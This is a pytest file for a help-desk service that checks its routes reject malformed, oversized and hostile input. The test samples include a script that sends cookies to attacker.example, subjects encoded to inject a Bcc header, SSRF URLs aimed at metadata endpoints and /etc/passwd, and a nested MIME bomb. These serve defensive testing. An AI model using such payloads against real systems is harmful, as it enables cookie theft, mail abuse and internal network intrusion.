"""The bad-input catalogue, one test each, through the real routes: malformed JSON, wrong content types,
oversized bodies (each route's limit), invalid UTF-8, MIME bombs, header injection into our email, script
in a customer message, webhook URLs aimed inside our network. Every refusal is in the documented shape."""
from __future__ import annotations

import base64
import dataclasses
import hashlib
import hmac
import json

import pytest

from chalicelib import settings as settings_module
from chalicelib.auth.signatures import jetdesk_signature
from chalicelib.storage.models import DeadLetter, InboundMessage

from .conftest import bearer

JSON = "application/json"
RFC822 = "message/rfc822"
OLIVIA = "olivia.brown@example.co.uk"


def refused(response, status: int, code: str) -> dict:
    assert response.status_code == status, (response.status_code, response.body[:300])
    assert response.headers["Content-Type"].startswith(JSON)
    error = response.json_body["error"]
    assert error["code"] == code and error["message"] and isinstance(error["details"], list)
    return error


def stored_body(key: str) -> dict:
    body = InboundMessage.get(key, consistent_read=True).body
    return body.as_dict() if hasattr(body, "as_dict") else body


def letters(source: str) -> list:
    return [d for d in DeadLetter.scan() if d.source == source]


def mail(stack, http, raw: bytes):
    signature = jetdesk_signature(stack.settings.jetdesk_signing_secret, raw)
    return http.post("/channels/email/inbound", body=raw,
                     headers={"Content-Type": RFC822, "X-JetDesk-Signature": signature})


def email_bytes(subject: str = "Refund", body: bytes = b"Please refund me.\r\n", message_id: str = "a@example",
                headers: str = "") -> bytes:
    return (f"From: Olivia Brown <{OLIVIA}>\r\nTo: support@jetdesk.local\r\nSubject: {subject}\r\n"
            f"Message-ID: <{message_id}>\r\n{headers}\r\n").encode() + body


def meta(stack, http, body: bytes, content_type: str = JSON):
    digest = hmac.new(stack.settings.meta_app_secret.encode(), body, hashlib.sha256).hexdigest()
    return http.post("/channels/meta", body=body,
                     headers={"Content-Type": content_type, "X-Hub-Signature-256": "sha256=" + digest})


def chat_token(http) -> dict:
    session = http.post("/channels/chat/sessions", headers={"Content-Type": JSON}, body=json.dumps({"name": "Ana"}))
    return {"Authorization": "Bearer " + session.json_body["token"], "Content-Type": JSON}


def ticket_of(stack, http, contact: str) -> dict:
    stack.pump.drain()
    sam = bearer(stack.settings, "sam")
    found = http.get(f"/tickets?contact={contact.replace('+', '%2B')}", headers=sam).json_body["items"]
    return http.get(f"/tickets/{found[0]['id']}", headers=sam).json_body


# ---- malformed JSON and wrong content types ----------------------------------------------

def test_malformed_json_from_a_customer_is_a_bad_request(stack, http):
    response = http.post("/channels/chat/messages", headers=chat_token(http), body='{"text": "help')
    refused(response, 400, "bad_request")


def test_malformed_json_in_an_authentic_webhook_is_unprocessable_and_kept_for_replay(stack, http):
    refused(meta(stack, http, b'{"object": "page", "entry": ['), 422, "unprocessable")
    [kept] = letters("meta")
    assert kept.payload["replayable"] is True and kept.payload["body"].startswith('{"object"')


def test_json_of_the_wrong_shape_in_an_authentic_webhook_is_unprocessable(stack, http):
    body = json.dumps({"object": "page", "entry": [{"messaging": [{"message": {"mid": "m1"}, "sender": None}]}]})
    refused(meta(stack, http, body.encode()), 422, "unprocessable")


WRONG_TYPES = [("/channels/meta", "text/plain"), ("/channels/twilio/sms", JSON), ("/channels/email/inbound", JSON),
               ("/channels/chat/sessions", "application/x-www-form-urlencoded"), ("/integrations/events", "text/xml")]


def test_a_wrong_content_type_is_refused_with_415(stack, http):
    for path, content_type in WRONG_TYPES:
        refused(http.post(path, headers={"Content-Type": content_type}, body=b"{}"), 415, "unsupported_media_type")


def test_a_wrong_content_type_on_an_agent_route_is_refused_with_415(stack, http):
    headers = {**bearer(stack.settings, "sam"), "Content-Type": "text/plain"}
    refused(http.post("/tickets/anything/replies", headers=headers, body='{"text": "hi"}'), 415,
            "unsupported_media_type")



def test_a_method_the_route_does_not_take_is_405_with_the_methods_it_does_take_in_allow(stack, http):
    response = http.put("/queues", headers=bearer(stack.settings, "alice"))
    refused(response, 405, "method_not_allowed")
    assert response.headers["Allow"] == "GET"
    response = http.put("/admin/webhooks", headers=bearer(stack.settings, "sam"))
    assert sorted(response.headers["Allow"].split(", ")) == ["GET", "POST"]


# ---- body size limits, per route ---------------------------------------------------------

def test_a_webhook_over_256_kib_is_refused_with_413_and_its_limit(stack, http):
    body = b'{"object": "page", "entry": [], "pad": "' + b"x" * (256 * 1024) + b'"}'
    error = refused(meta(stack, http, body), 413, "payload_too_large")
    assert error["details"] == [{"limit_bytes": 256 * 1024}]


def test_a_chat_message_over_64_kib_is_refused_with_413(stack, http):
    body = json.dumps({"text": "a" * (64 * 1024)})
    refused(http.post("/channels/chat/messages", headers=chat_token(http), body=body), 413, "payload_too_large")


def test_an_agent_reply_over_64_kib_is_refused_with_413(stack, http):
    headers = {**bearer(stack.settings, "sam"), "Content-Type": JSON}
    refused(http.post("/tickets/x/replies", headers=headers, body=json.dumps({"text": "a" * 70000})), 413,
            "payload_too_large")


def test_relayed_mail_with_a_2_mib_attachment_is_stored_with_its_file(stack, http):
    pdf = b"%PDF-1.4\n" + bytes(range(256)) * (2 * 4096)
    attachment = base64.encodebytes(pdf)
    body = (b"--b\r\nContent-Type: text/plain\r\n\r\nMy receipt, attached.\r\n--b\r\n"
            b"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=receipt.pdf\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + attachment + b"--b--\r\n")
    raw = email_bytes(body=body, headers="MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n")
    assert 256 * 1024 < len(raw) < 4 * 1024 * 1024          # over the webhook limit, under the mail limit
    assert mail(stack, http, raw).status_code == 202
    stored = stored_body("email#a@example")
    assert [(a["name"], a["size"]) for a in stored["attachments"]] == [("receipt.pdf", len(pdf))]


def test_relayed_mail_over_4_mib_is_refused_with_413(stack, http):
    raw = email_bytes(body=b"x" * (4 * 1024 * 1024))
    refused(mail(stack, http, raw), 413, "payload_too_large")


# ---- invalid UTF-8 -----------------------------------------------------------------------

def test_invalid_utf8_from_a_customer_is_a_bad_request(stack, http):
    refused(http.post("/channels/chat/messages", headers=chat_token(http), body=b'{"text": "\xff\xfe help"}'), 400,
            "bad_request")


def test_invalid_utf8_in_an_authentic_webhook_is_unprocessable_and_its_exact_bytes_kept(stack, http):
    body = b'{"update_id": 1, "message": {"text": "\xc3\x28"}}'
    response = http.post("/channels/telegram", body=body, headers={
        "Content-Type": JSON, "X-Telegram-Bot-Api-Secret-Token": stack.settings.telegram_secret_token})
    refused(response, 422, "unprocessable")
    [kept] = letters("telegram")
    assert base64.b64decode(kept.payload["body_base64"]) == body


def test_undeclared_8bit_mail_is_read_rather_than_refused(stack, http):
    assert mail(stack, http, email_bytes(body="Où est ma valise ?\r\n".encode("latin-1"))).status_code == 202
    assert "est ma valise" in stored_body("email#a@example")["text"]


# ---- MIME bombs --------------------------------------------------------------------------

def test_a_mime_bomb_nesting_thousands_of_multiparts_is_unprocessable_and_kept(stack, http):
    nested = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(3000))
    raw = email_bytes(body=b"", headers="MIME-Version: 1.0\r\n")[:-2] + nested + b"\r\nhi\r\n"
    assert len(raw) < 256 * 1024
    refused(mail(stack, http, raw), 422, "unprocessable")
    [kept] = letters("email/inbound")
    assert "nests its MIME parts" in kept.reason and kept.payload["truncated"] is True   # its first 64 KiB


def test_a_mail_of_many_tiny_attachments_is_stored_without_fanning_out(stack, http):
    parts = b"".join(b"--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=f%d.txt\r\n\r\n"
                     b"x\r\n" % i for i in range(500))
    raw = email_bytes(body=b"--b\r\nContent-Type: text/plain\r\n\r\nsee files\r\n" + parts + b"--b--\r\n",
                      headers="MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n")
    assert mail(stack, http, raw).status_code == 202
    assert len(stored_body("email#a@example")["attachments"]) == 500


# ---- injection ---------------------------------------------------------------------------

@pytest.mark.parametrize("subject", ["=?utf-8?q?Refund=0D=0ABcc:_all@attacker.example?=",
                                     "=?utf-8?b?UmVmdW5kDQpCY2M6IGFsbEBhdHRhY2tlci5leGFtcGxl?="])
def test_a_customer_subject_cannot_inject_headers_into_our_reply(stack, http, subject):
    assert mail(stack, http, email_bytes(subject=subject)).status_code == 202
    ticket = ticket_of(stack, http, OLIVIA)
    stack.sink.records.clear()
    headers = {**bearer(stack.settings, "sam"), "Content-Type": JSON}
    reply = http.post(f"/tickets/{ticket['id']}/replies", headers=headers,
                      body=json.dumps({"text": "Done.\r\nBcc: all@attacker.example\r\n"}))
    assert reply.status_code == 201
    stack.pump.drain()
    [sent] = [r for r in stack.sent("ses")]
    head = sent["body"]["raw"].split("\r\n\r\n", 1)[0]
    names = [line.split(":", 1)[0].lower() for line in head.split("\r\n") if line and not line[0].isspace()]
    assert "bcc" not in names and "cc" not in names, head
    assert "attacker" not in head.split("Subject:")[0]


def test_script_in_a_customer_message_is_kept_as_data_and_served_only_as_json(stack, http):
    script = '<script>fetch("https://attacker.example/?"+document.cookie)</script><img src=x onerror=alert(1)>'
    assert http.post("/channels/chat/messages", headers=chat_token(http),
                     body=json.dumps({"text": script})).status_code == 202
    stack.pump.drain()
    sam = bearer(stack.settings, "sam")
    [entry] = http.get("/queues/general/tickets", headers=sam).json_body["items"]
    shown = http.get(f"/tickets/{entry['id']}", headers=sam)
    assert shown.headers["Content-Type"] == JSON and shown.headers["X-Content-Type-Options"] == "nosniff"
    assert [m["text"] for m in shown.json_body["messages"] if m["direction"] == "inbound"] == [script]


def test_script_in_an_html_only_mail_never_reaches_the_ticket(stack, http):
    body = b"<p>Where is my bag?</p><script>alert(document.cookie)</script><style>p{}</style>"
    raw = email_bytes(body=body, headers="MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n")
    assert mail(stack, http, raw).status_code == 202
    assert stored_body("email#a@example")["text"] == "Where is my bag?"


INSIDE = ["http://example.com/hook", "https://127.0.0.1/hook", "https://127.1/hook", "https://2130706433/hook",
          "https://[::1]/hook", "https://[::ffff:10.0.0.1]/hook", "https://10.0.0.8/hook", "https://192.168.1.1:8443/hook",
          "https://0.0.0.0/hook", "https://169.254.169.254/latest/meta-data/", "https://localhost/hook",
          "https://user:pw@127.0.0.1/hook", "file:///etc/passwd", "gopher://127.0.0.1:25/",
          "https://100.64.0.1/hook", "https://100.100.100.200/latest/meta-data/", "https://[2002:a9fe:a9fe::1]/hook",
          "https://[2001:0:4136:e378:8000:63bf:f5fe:fdfe]/hook"]  # shared 100.64/10, 6to4 and Teredo forms


def test_a_webhook_subscription_aimed_inside_our_network_is_refused(stack, http, monkeypatch):
    monkeypatch.setattr(settings_module, "_settings", dataclasses.replace(stack.settings, stage="prod"))
    headers = {**bearer(stack.settings, "sam"), "Content-Type": JSON}
    for url in INSIDE:
        body = json.dumps({"url": url, "events": ["ticket.created"]})
        refused(http.post("/admin/webhooks", headers=headers, body=body), 422, "unprocessable")
    assert http.get("/admin/webhooks", headers=bearer(stack.settings, "sam")).json_body["items"] == []


@pytest.fixture
def dynamodb_key_limits():
    """DynamoDB refuses a partition key over 2048 bytes with a ValidationException; moto does not check."""
    from botocore.exceptions import ClientError

    from chalicelib.storage import models

    def refuse_long_keys(params, model, **kwargs):
        keys = [params.get("Key") or {}] + [k for t in (params.get("RequestItems") or {}).values()
                                            for k in t.get("Keys", [])]
        if any(len(v.get("S", "")) > 2048 for key in keys for v in key.values()):
            raise ClientError({"Error": {"Code": "ValidationException", "Message": "key too long"}}, model.name)

    client = models._shared["connection"].client
    client.meta.events.register("before-parameter-build.dynamodb", refuse_long_keys)
    yield
    client.meta.events.unregister("before-parameter-build.dynamodb", refuse_long_keys)


def test_an_id_longer_than_any_we_give_out_is_404_not_a_dynamodb_error(stack, http, dynamodb_key_limits):
    sam, long_id = bearer(stack.settings, "sam"), "x" * 3000
    for path in (f"/tickets/{long_id}", f"/customers/{long_id}", f"/tickets/{long_id}/canned-responses"):
        response = http.get(path, headers=sam)
        assert response.status_code == 404 and response.json_body["error"]["code"] == "not_found", path
        assert long_id not in response.json_body["error"]["message"]
    assert http.post(f"/admin/dead-letters/{long_id}/replay", headers=sam).status_code == 404


def test_a_contact_longer_than_any_address_is_a_bad_request_not_a_dynamodb_error(stack, http, dynamodb_key_limits):
    sam = bearer(stack.settings, "sam")
    for contact in ("a" * 3000 + "@example.com", "x:" + "h" * 3000, "%2B1" + "4" * 3000, "é" * 700 + "@example.com"):
        error = refused(http.get(f"/tickets?contact={contact}", headers=sam), 400, "bad_request")
        assert "264 characters" in error["message"] and contact not in error["message"]
    longest = "a" * 64 + "@" + "b" * 185 + ".com"  # 254 characters, the longest an address may be
    assert http.get(f"/tickets?contact=email:{longest}", headers=sam).json_body == {"items": [], "next": None}
